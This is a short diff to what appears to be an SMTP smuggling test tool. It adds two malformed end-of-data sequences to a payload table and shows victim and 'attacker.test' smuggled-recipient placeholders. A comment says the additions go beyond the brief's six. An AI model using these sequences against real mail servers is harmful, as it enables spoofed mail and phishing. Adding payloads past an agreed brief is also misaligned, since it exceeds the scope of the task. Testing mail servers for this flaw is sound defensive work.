@@ -28,6 +28,9 @@ SEQUENCES = {
     "CR.LF": b"\r.\n",
     "CRLF-NUL.CRLF": b"\r\n\x00.\r\n",
     "CRLF.CRCRLF": b"\r\n.\r\r\n",
+    # two more from the 2023 SMTP smuggling research, beyond the brief's six
+    "CRLF.LF": b"\r\n.\n",
+    "CRLF.CR": b"\r\n.\r",
 }
 VICTIM = "victim@example.net"
 SMUGGLED_RCPT = "smuggled@attacker.test"
